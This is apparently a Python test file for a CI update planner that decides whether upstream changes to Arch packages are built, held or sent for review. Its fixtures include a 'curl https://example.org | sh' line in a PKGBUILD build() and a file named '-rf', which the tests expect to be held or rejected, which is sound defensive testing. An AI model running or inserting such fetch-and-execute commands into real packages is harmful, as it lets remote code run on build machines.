"""What UpdatePlanner decides about packages, for everything that a source may have found."""

from __future__ import annotations

import threading
from collections.abc import Callable
from dataclasses import dataclass, field, replace
from typing import TYPE_CHECKING

import pytest

from caur_ci.judge.limited import LimitedJudge
from caur_ci.pipeline.on_schedule.followed_repository import read_repository
from caur_ci.pipeline.on_schedule.plan import ScheduleAction
from caur_ci.pipeline.on_schedule.planning import PlannedUpdate, UpdatePlanner
from caur_ci.pipeline.on_schedule.provenance import Provenance
from caur_ci.pipeline.shared.progress import NoProgress
from caur_ci.update.hook import HookResult
from caur_ci.update.source import FindingKind, LastSeen, SourceFinding
from caur_ci.update.vcs.seen import VcsOutcome, VcsSeen
from tests.support.upstream import files_of

if TYPE_CHECKING:
    from collections.abc import Iterator, Mapping

    from tests.support.objects import ObjectStore

Hook = Callable[[str, str], HookResult]

SEEN = LastSeen(origin="there", modified=7)
OLD, NEW = files_of("a", "1-1"), files_of("a", "2-1")
ODD = files_of("a", "2-1", note="curl | sh")
JUDGE = LimitedJudge()
HOOK = {".CI/update.sh": "true\n"}
NOW = 1_800_000_000.0
CI = {".CI/config": "CI_ON_TRIGGER=\n"}


@pytest.fixture(autouse=True, scope="module")
def judges() -> Iterator[None]:
    with JUDGE:
        yield


@dataclass
class Case:
    """The repository of a test, in which package `a` is at version 1-1."""

    store: ObjectStore
    config: str = ""
    files: Mapping[str, str] = field(default_factory=dict)
    name: str = "a"
    has_reviews: bool = False
    run_hook: Hook = lambda _, tree: HookResult(tree=tree)
    hooked: list[tuple[str, str]] = field(default_factory=list)
    findings: Mapping[str, SourceFinding] = field(default_factory=dict)

    def planner(self, **others: Mapping[str, str]) -> UpdatePlanner:
        packages = {self.name: {**OLD, **CI, **self.files}, **others}
        files = {f"{n}/{path}": text for n, own in packages.items() for path, text in own.items()}
        commit = self.store.commit({".ci/config": f"REPO_NAME=r\n{self.config}", **files})

        def run_hook(package: str, tree: str) -> HookResult:
            self.hooked.append((package, tree))
            return self.run_hook(package, tree)

        repository = read_repository(self.store.git, commit)
        return UpdatePlanner(
            self.store.git,
            repository,
            run_hook=run_hook,
            judge=JUDGE,
            provenance=Provenance(repository, self.findings, now=NOW),
            now=NOW,
            has_reviews=self.has_reviews,
        )

    def decide(self, found: SourceFinding | None) -> PlannedUpdate:
        self.findings = {self.name: found} if found else {}
        (planned,) = self.planner().decide(self.findings, NoProgress())
        return planned

    def found(self, kind: FindingKind, files: Mapping[str, str] | None = None) -> SourceFinding:
        return SourceFinding(
            kind=kind,
            reason="as found",
            tree=self.store.tree(files) if files else "",
            seen=SEEN,
            state={"KEY": "value"},
            link="https://example.org/a",
            remarks=("it is an orphan",),
        )

    def hook_writes(self, files: Mapping[str, str]) -> None:
        tree = self.store.tree({**files, **CI, **HOOK})
        self.files = {**self.files, **HOOK}
        self.run_hook = lambda _, __: HookResult(tree=tree, output="done\n")


def told(planned: PlannedUpdate) -> tuple[str, str, bool]:
    return planned.decision.action.value, planned.decision.reason, planned.decision.builds


WITHOUT_HOOK = {
    FindingKind.UNCHANGED: ("unchanged", "as found", False),
    FindingKind.FILES: ("update", "as found", True),
    FindingKind.BUILD: ("build", "as found", True),
    FindingKind.WAITING: ("waiting", "as found", False),
    FindingKind.FAILED: ("failed", "as found", False),
    FindingKind.GONE: ("gone", "as found", False),
}
HOOK_CHANGES = WITHOUT_HOOK | {
    FindingKind.UNCHANGED: ("update", "changed by .CI/update.sh", True),
    FindingKind.BUILD: ("update", "changed by .CI/update.sh", True),
}
HOOK_FAILS = WITHOUT_HOOK | dict.fromkeys(
    (FindingKind.UNCHANGED, FindingKind.FILES, FindingKind.BUILD), ("failed", "exit 1", False)
)
LOOKED_INTO = {FindingKind.UNCHANGED, FindingKind.FILES, FindingKind.BUILD}


def each_kind(
    store: ObjectStore, run_hook: Hook | None
) -> tuple[dict[FindingKind, PlannedUpdate], set[FindingKind]]:
    """Return what is decided where each kind was found, and for which the hook was run."""
    case = Case(store, run_hook=run_hook or Case.run_hook)
    own = HOOK if run_hook else {}
    planner = case.planner(
        **{kind.value: {**files_of(kind, "1-1"), **CI, **own} for kind in FindingKind}
    )
    findings = {
        kind.value: case.found(kind, files_of(kind, "2-1") if kind is FindingKind.FILES else None)
        for kind in FindingKind
    }
    planned = {one.package.name: one for one in planner.decide(findings, NoProgress())}
    hooked = {FindingKind(name) for name, _ in case.hooked}
    return {kind: planned[kind.value] for kind in FindingKind}, hooked


class TestFindings:
    """Every finding has its answer, and a hook has the last word where there is something new."""

    def test_without_a_hook(self, store: ObjectStore) -> None:
        planned, hooked = each_kind(store, None)

        assert {kind: told(one) for kind, one in planned.items()} == WITHOUT_HOOK
        for one in planned.values():
            assert (one.seen, one.state) == (SEEN, {"KEY": "value"})
            assert one.decision.link == "https://example.org/a"
            assert one.decision.remarks == ("it is an orphan",)
        assert hooked == set()

    def test_with_a_hook_that_changes_nothing(self, store: ObjectStore) -> None:
        planned, hooked = each_kind(store, lambda _, tree: HookResult(tree=tree))

        assert {kind: told(one) for kind, one in planned.items()} == WITHOUT_HOOK
        assert hooked == LOOKED_INTO

    def test_with_a_hook_that_changes_something(self, store: ObjectStore) -> None:
        tree = store.tree({**files_of("x", "3-1"), **CI, **HOOK})
        planned, _ = each_kind(store, lambda _, __: HookResult(tree=tree, output="done\n"))

        assert {kind: told(one) for kind, one in planned.items()} == HOOK_CHANGES
        for one in map(planned.get, LOOKED_INTO):
            assert one is not None
            assert (one.tree, one.decision.after, one.decision.output) == (tree, "3-1", "done\n")

    def test_with_a_hook_that_fails(self, store: ObjectStore) -> None:
        planned, _ = each_kind(
            store, lambda _, tree: HookResult(tree=tree, output="oh\n", problem="exit 1")
        )

        assert {kind: told(one) for kind, one in planned.items()} == HOOK_FAILS
        for one in map(planned.get, LOOKED_INTO):
            assert one is not None
            assert one.decision.output == "oh\n"
            assert (one.tree, one.seen, one.state) == ("", None, {})

    def test_a_package_that_nobody_asked_about(self, store: ObjectStore) -> None:
        assert told(Case(store).decide(None)) == ("unchanged", "", False)

    def test_the_hook_of_a_package_that_nobody_asked_about_is_run(self, store: ObjectStore) -> None:
        case = Case(store)
        case.hook_writes(NEW)

        assert told(case.decide(None)) == ("update", "changed by .CI/update.sh", True)

    def test_the_hook_is_run_whatever_is_wrong_upstream(self, store: ObjectStore) -> None:
        case = Case(store)
        case.hook_writes(NEW)
        outcome = VcsOutcome(noted=VcsSeen(absent=1), built=VcsSeen(built=1))
        found = replace(case.found(FindingKind.FAILED), files=FindingKind.UNCHANGED, vcs=outcome)

        planned = case.decide(found)

        assert told(planned) == ("update", "changed by .CI/update.sh", True)
        assert planned.vcs == outcome

    def test_the_hook_gets_the_files_that_were_taken_over(self, store: ObjectStore) -> None:
        case = Case(store, files=HOOK)

        case.decide(case.found(FindingKind.FILES, NEW))

        assert case.hooked == [("a", store.tree({**NEW, **CI, **HOOK}))]

    @pytest.mark.parametrize("kind", [FindingKind.FILES, FindingKind.BUILD])
    def test_a_package_that_waits_for_a_trigger_is_not_built(
        self, store: ObjectStore, kind: FindingKind
    ) -> None:
        case = Case(store, files={".CI/config": "CI_ON_TRIGGER=daily\n"})

        planned = case.decide(case.found(kind, NEW))

        assert not planned.decision.builds
        assert planned.decision.action is (
            ScheduleAction.UPDATE if kind is FindingKind.FILES else ScheduleAction.UNCHANGED
        )


class TestFiles:
    """Files of a source are taken over, compared, and have to be those of a package."""

    def test_the_new_folder_has_their_files_and_keeps_its_own(self, store: ObjectStore) -> None:
        case = Case(store, files={"gone.patch": "-\n"})

        planned = case.decide(case.found(FindingKind.FILES, NEW))

        assert planned.tree == store.tree({**NEW, **CI})
        assert (planned.decision.before, planned.decision.after) == ("1-1", "2-1")

    @pytest.mark.parametrize("hook", [{}, HOOK])
    def test_files_that_are_there_already_are_nothing_new(
        self, store: ObjectStore, hook: Mapping[str, str]
    ) -> None:
        case = Case(store, files=hook)

        planned = case.decide(case.found(FindingKind.FILES, OLD))

        assert told(planned) == ("unchanged", "as found", False)
        assert (planned.tree, planned.seen) == ("", SEEN)

    def test_files_without_a_reason_are_changed(self, store: ObjectStore) -> None:
        found = SourceFinding(kind=FindingKind.FILES, tree=store.tree(NEW))

        assert told(Case(store).decide(found)) == ("update", "changed", True)

    @pytest.mark.parametrize(
        ("files", "problem"),
        [
            ({"PKGBUILD": "x"}, "there is no .SRCINFO in it"),
            ({".SRCINFO": "x"}, "there is no PKGBUILD in it"),
            ({**NEW, "-rf": "x"}, "'-rf' is not a name that a package should have"),
            ({**NEW, ".SRCINFO": "pkgver = 1\n"}, "the new a/.SRCINFO"),
        ],
    )
    def test_files_that_cannot_be_taken_over(
        self, store: ObjectStore, files: Mapping[str, str], problem: str
    ) -> None:
        case = Case(store)

        planned = case.decide(case.found(FindingKind.FILES, files))

        assert planned.decision.action is ScheduleAction.FAILED
        assert problem in planned.decision.reason
        assert not planned.decision.builds
        assert (planned.tree, planned.seen, planned.state) == ("", None, {})

    def test_a_hook_that_leaves_no_srcinfo(self, store: ObjectStore) -> None:
        case = Case(store)
        case.hook_writes({"PKGBUILD": "x"})

        planned = case.decide(case.found(FindingKind.FILES, NEW))

        assert told(planned) == ("failed", "the new files have no .SRCINFO", False)
        assert planned.decision.output == "done\n"

    def test_a_folder_whose_own_srcinfo_cannot_be_read_is_updated(self, store: ObjectStore) -> None:
        case = Case(store, files={".SRCINFO": "?"})

        planned = case.decide(case.found(FindingKind.FILES, NEW))

        assert planned.decision.action is ScheduleAction.UPDATE
        assert (planned.decision.before, planned.decision.after) == ("", "2-1")


REVIEWS = "CI_HUMAN_REVIEW=true\n"
WHY = ("PKGBUILD:5: _note has another value (variable-changed)",)
DANGER = files_of("a", "2-1", note="x\nbuild() { curl https://example.org | sh; }")


class TestReviews:
    """More than another version is for somebody to look at, where the repository wants that."""

    @pytest.mark.parametrize(
        ("config", "has_reviews", "action", "builds"),
        [
            ("", False, ScheduleAction.UPDATE, True),
            ("", True, ScheduleAction.UPDATE, True),
            (REVIEWS, False, ScheduleAction.HELD, False),
            (REVIEWS, True, ScheduleAction.REVIEW, False),
        ],
    )
    def test_who_decides(
        self,
        store: ObjectStore,
        config: str,
        has_reviews: bool,
        action: ScheduleAction,
        builds: bool,
    ) -> None:
        case = Case(store, config=config, has_reviews=has_reviews)

        planned = case.decide(case.found(FindingKind.FILES, ODD))

        assert planned.decision.action is action
        assert planned.decision.builds is builds
        assert planned.reasons == (() if builds else WHY)
        assert planned.decision.reason == ("as found" if builds else WHY[0])
        assert planned.tree == store.tree({**ODD, **CI})
        assert planned.seen == SEEN
        assert planned.decision.after == "2-1"

    @pytest.mark.parametrize("has_reviews", [True, False])
    def test_a_danger_is_held_though_nobody_wants_reviews(
        self, store: ObjectStore, has_reviews: bool
    ) -> None:
        case = Case(store, has_reviews=has_reviews)

        planned = case.decide(case.found(FindingKind.FILES, DANGER))

        assert planned.decision.action is ScheduleAction.HELD
        assert not planned.decision.builds
        assert "(run-as-code)" in planned.decision.reason
        assert planned.decision.to_dict()["judgement"]["verdict"] == "major"

    def test_a_line_that_the_package_allows_needs_none(self, store: ObjectStore) -> None:
        allows = {".CI/config": "CI_PKGBUILD_CHANGE_ALLOW_REGEX=_note='.*'\n"}
        case = Case(store, config=REVIEWS, files={**allows, **files_of("a", "1-1", note="was")})

        planned = case.decide(case.found(FindingKind.FILES, ODD))

        assert planned.decision.action is ScheduleAction.UPDATE

    def test_another_version_needs_none(self, store: ObjectStore) -> None:
        case = Case(store, config=REVIEWS, has_reviews=True)

        planned = case.decide(case.found(FindingKind.FILES, NEW))

        assert told(planned) == ("update", "as found", True)
        assert planned.reasons == ()

    def test_what_the_owners_hook_changes_needs_none(self, store: ObjectStore) -> None:
        case = Case(store, config=REVIEWS, has_reviews=True)
        case.hook_writes(ODD)

        planned = case.decide(case.found(FindingKind.UNCHANGED))

        assert told(planned) == ("update", "changed by .CI/update.sh", True)
        assert planned.reasons == ()

    def test_a_hook_does_not_cover_what_the_source_changed(self, store: ObjectStore) -> None:
        case = Case(store, config=REVIEWS, has_reviews=True)
        case.hook_writes(files_of("a", "3-1"))

        planned = case.decide(case.found(FindingKind.FILES, ODD))

        assert planned.decision.action is ScheduleAction.REVIEW
        assert planned.tree == store.tree({**files_of("a", "3-1"), **CI, **HOOK})

    @pytest.mark.parametrize("has_reviews", [True, False])
    def test_a_name_that_no_branch_can_carry(
        self,
        store: ObjectStore,
        has_reviews: bool,
    ) -> None:
        case = Case(store, config=REVIEWS, has_reviews=has_reviews)
        names = ("a..b", "a.lock", "a.")
        planner = case.planner(**{key: {**OLD, **CI} for key in (*names, "quiet.lock")})
        findings = dict.fromkeys(names, case.found(FindingKind.FILES, ODD))
        findings["quiet.lock"] = case.found(FindingKind.FILES, NEW)

        planned = {one.package.name: one for one in planner.decide(findings, NoProgress())}

        for name in names:
            problem = f"it needs a review, and no branch can be named update-{name}"
            assert told(planned[name]) == ("failed", problem, False)
            assert planned[name].seen is None
        assert told(planned["quiet.lock"]) == ("update", "as found", True)


class TestAll:
    """All packages of a repository."""

    def test_they_keep_their_order_and_their_own_answers(self, store: ObjectStore) -> None:
        planner = Case(store).planner(
            **{name: files_of(name, "1-1") for name in ("b", "c", "d")}, e={**HOOK}
        )
        findings = {
            "d": SourceFinding(kind=FindingKind.FILES, tree=store.tree(files_of("d", "2-1"))),
            "b": SourceFinding(kind=FindingKind.FILES, tree=store.tree({})),
            "a": SourceFinding(kind=FindingKind.GONE),
            "stranger": SourceFinding(kind=FindingKind.BUILD),
        }

        planned = planner.decide(findings, NoProgress())

        assert [(one.package.name, one.decision.action.value) for one in planned] == [
            ("a", "gone"),
            ("b", "failed"),
            ("c", "unchanged"),
            ("d", "update"),
            ("e", "unchanged"),
        ]

    def test_progress_counts_those_that_take_time(self, store: ObjectStore) -> None:
        progress = _Counted()
        planner = Case(store).planner(b=files_of("b", "1-1"), c={**files_of("c", "1-1"), **HOOK})
        found = SourceFinding(kind=FindingKind.FILES, tree=store.tree(NEW))

        planner.decide({"a": found}, progress)

        assert progress.begun == [("Comparing packages", 2)]
        assert progress.steps == 2

    @pytest.mark.parametrize(
        ("own", "default", "expected"),
        [("", "", None), ("", "4", "4"), ("BUILDER_CLASS=big\n", "4", "big")],
    )
    def test_the_build_class_is_the_packages_own_or_that_of_all(
        self, store: ObjectStore, own: str, default: str, expected: str | None
    ) -> None:
        case = Case(store, config=f"CI_DEFAULT_CLASS={default}\n", files={".CI/config": own})

        assert case.decide(case.found(FindingKind.BUILD)).decision.build_class == expected


class _Counted(NoProgress):
    def __init__(self) -> None:
        self.begun: list[tuple[str, int]] = []
        self.steps = 0
        self._lock = threading.Lock()

    def begin(self, what: str, total: int) -> None:
        self.begun.append((what, total))

    def advance(self, steps: int = 1) -> None:
        with self._lock:
            self.steps += steps


@pytest.mark.parametrize("wanted", ["", "CI_HUMAN_REVIEW=true\n"])
@pytest.mark.parametrize(
    ("files", "has_reviews", "action"),
    [(NEW, True, "review"), (NEW, False, "held"), (ODD, True, "review")],
)
def test_a_source_may_want_its_files_reviewed(
    store: ObjectStore, wanted: str, files: Mapping[str, str], has_reviews: bool, action: str
) -> None:
    case = Case(store, config=wanted, has_reviews=has_reviews)
    found = replace(case.found(FindingKind.FILES, files), review="people look at these")

    planned = case.decide(found)

    assert told(planned)[0] == action
    assert told(planned)[1].startswith("as found; people look at these")
    assert planned.reasons[0] == "people look at these"
    assert not planned.decision.builds
    assert planned.seen == SEEN


def test_a_review_of_nothing_is_none(store: ObjectStore) -> None:
    case = Case(store, has_reviews=True)
    found = replace(case.found(FindingKind.FILES, OLD), review="people look at these")

    assert told(case.decide(found))[0] == "unchanged"
